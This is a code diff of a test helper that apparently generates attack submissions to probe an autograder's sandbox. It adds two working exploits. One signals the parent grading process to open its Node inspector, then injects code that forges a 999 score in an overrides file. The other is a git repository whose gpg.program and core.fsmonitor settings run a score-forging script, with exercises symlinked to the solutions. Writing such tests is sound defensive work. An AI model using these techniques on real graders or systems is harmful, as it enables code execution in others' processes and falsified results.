@@ -5,6 +5,7 @@
  * anything it could read would reach the feedback, and any point above what a submission that
  * only throws scores (the "thrower": the tests that ask for an error) is a point stolen.
  */
+import { execFileSync } from "node:child_process";
 import * as fs from "node:fs";
 import * as path from "node:path";
 
@@ -47,6 +48,47 @@ function grab(what: string, f: () => unknown): void {
 ${body}
 ${EXPORTS.map((e) => `export function ${e}(..._a: unknown[]): any { ${exportsBody.replace(/__NAME__/g, e)} }`).join("\n")}
 `;
+}
+
+/**
+ * SIGUSR1 makes a Node process open its inspector on 127.0.0.1:9229, and whoever connects runs
+ * code in it. The parent of a submission's process is the grading worker: signal it, claim to be
+ * loaded, drop the host's own messages and return from the import, so that this process's event
+ * loop runs; then connect and have the grader's process forge an override. Where there is no
+ * parent to signal (a PID namespace's init, another user's process) it behaves like the thrower.
+ */
+function debuggerAttack(overrides: string): string {
+  const payload = `process.getBuiltinModule("fs").appendFileSync(${JSON.stringify(overrides)}, "debugger,total,999,forged\\n")`;
+  return `const net = require("node:net");
+let signalled = false;
+grab("signal", () => { if (process.ppid <= 1) throw new Error("no parent"); process.kill(process.ppid, "SIGUSR1"); signalled = true; return "sent"; });
+function frame(text: string): Buffer {
+  const p = Buffer.from(text);
+  const head = p.length < 126 ? Buffer.from([0x81, 0x80 | p.length]) : Buffer.from([0x81, 0x80 | 126, p.length >> 8, p.length & 255]);
+  return Buffer.concat([head, Buffer.alloc(4), p]); // a zero mask leaves the bytes as they are
+}
+function attack(tries: number): void {
+  const s = net.connect(9229, "127.0.0.1", () => s.write("GET /json/list HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\n\\r\\n"));
+  let body = "";
+  s.on("error", () => { if (tries > 0) setTimeout(() => attack(tries - 1), 50); });
+  s.on("data", (d: Buffer) => {
+    body += d;
+    const id = /"id": "([\\w-]+)"/.exec(body);
+    if (!id) return;
+    s.destroy();
+    const ws = net.connect(9229, "127.0.0.1", () => ws.write("GET /" + id[1] + " HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n"));
+    ws.on("error", () => undefined);
+    ws.once("data", () => ws.write(frame(JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression: ${JSON.stringify(payload)} } }))));
+  });
+}
+if (signalled) {
+  const realFs = require("node:fs");
+  const write = realFs.writeSync;
+  write(3, JSON.stringify({ t: "loaded", exports: ${JSON.stringify(EXPORTS)} }) + "\\n");
+  realFs.writeSync = (fd: number, b: Buffer, ...rest: unknown[]) => (fd === 3 ? b.length : write(fd, b, ...rest));
+  attack(10);
+  throw new Error("the event loop is ours now");
+}`;
 }
 
 /** name -> source of exercises/01-derivatives.ts */
@@ -120,9 +162,46 @@ grab("dns", () => { require("node:dns").lookup("localhost", () => undefined); re
 for (let i = 0; i < 30; i++) { const b = Buffer.alloc(100 * 2 ** 20); b.fill(1); keep.push(b); }
 loot += " allocated " + keep.length * 100 + " MiB";`,
     ),
+    debugger: module(t, debuggerAttack(path.join(t.out, "overrides.csv"))),
     loop: module(t, 'for (;;) { loot += ""; }'),
     promise: module(t, "", "return new Promise(() => undefined);"),
   };
+}
+
+/** git with a committer of its own, its output trimmed. */
+export function git(cwd: string, ...args: string[]): string {
+  return execFileSync("git", ["-c", "user.name=s", "-c", "user.email=s@x", ...args], {
+    cwd,
+    encoding: "utf8",
+    stdio: ["ignore", "pipe", "ignore"],
+  }).trim();
+}
+
+/**
+ * A git repository at `work` (bare: at `work`.git) holding exercises/01-derivatives.ts, whose
+ * HEAD is a signed commit of 2023-11-14T22:13:20Z and whose own config has git run `evil` on
+ * a plain `git log` (to check that signature) and on any status (fsmonitor).
+ */
+export function writeHostileRepo(work: string, evil: string, bare: boolean): void {
+  fs.mkdirSync(path.join(work, "exercises"), { recursive: true });
+  fs.writeFileSync(path.join(work, "exercises/01-derivatives.ts"), "export const x = 1;\n");
+  git(work, "init", "--quiet");
+  git(work, "add", ".");
+  git(work, "commit", "--quiet", "-m", "work");
+  const tree = git(work, "rev-parse", "HEAD^{tree}");
+  const parent = git(work, "rev-parse", "HEAD");
+  const who = "s <s@x> 1700000000 +0000";
+  const signature = "gpgsig -----BEGIN PGP SIGNATURE-----\n \n AAAA\n -----END PGP SIGNATURE-----";
+  const commit = `tree ${tree}\nparent ${parent}\nauthor ${who}\ncommitter ${who}\n${signature}\n\nsigned\n`;
+  const file = path.join(work, ".git", "commit.txt");
+  fs.writeFileSync(file, commit);
+  git(work, "update-ref", "HEAD", git(work, "hash-object", "-t", "commit", "-w", file));
+  fs.rmSync(file);
+  const gitDir = bare ? `${work}.git` : path.join(work, ".git");
+  if (bare) git(path.dirname(work), "clone", "--quiet", "--bare", work, gitDir);
+  const config = { "log.showSignature": "true", "gpg.program": evil, "core.fsmonitor": evil };
+  for (const [k, v] of Object.entries(config)) git(work, "--git-dir", gitDir, "config", k, v);
+  if (bare) fs.rmSync(work, { recursive: true });
 }
 
 /** Write each attack as a submission folder of `dir`; also an honest one and an untouched stub. */
@@ -138,5 +217,14 @@ export function writeAttacks(dir: string, t: Targets): string[] {
   write("stub", fs.readFileSync(path.join(t.course, "exercises/01-derivatives.ts"), "utf8"));
   // the baseline an attack is measured against: honest, implements nothing, throws everywhere
   write("thrower", module(t, ""));
-  return Object.keys(sources);
+  // a repository whose exercises/ links to the course's solutions and whose own git config has
+  // any git command run on it forge an override
+  const linked = path.join(dir, "linked");
+  const evil = path.join(dir, "evil.sh");
+  const forge = `echo linked,total,999,forged >> '${path.join(t.out, "overrides.csv")}'`;
+  fs.writeFileSync(evil, `#!/bin/sh\n${forge}\n`, { mode: 0o755 });
+  writeHostileRepo(linked, evil, false);
+  fs.rmSync(path.join(linked, "exercises"), { recursive: true });
+  fs.symlinkSync(path.join(t.course, "solutions"), path.join(linked, "exercises"));
+  return [...Object.keys(sources), "linked"];
 }
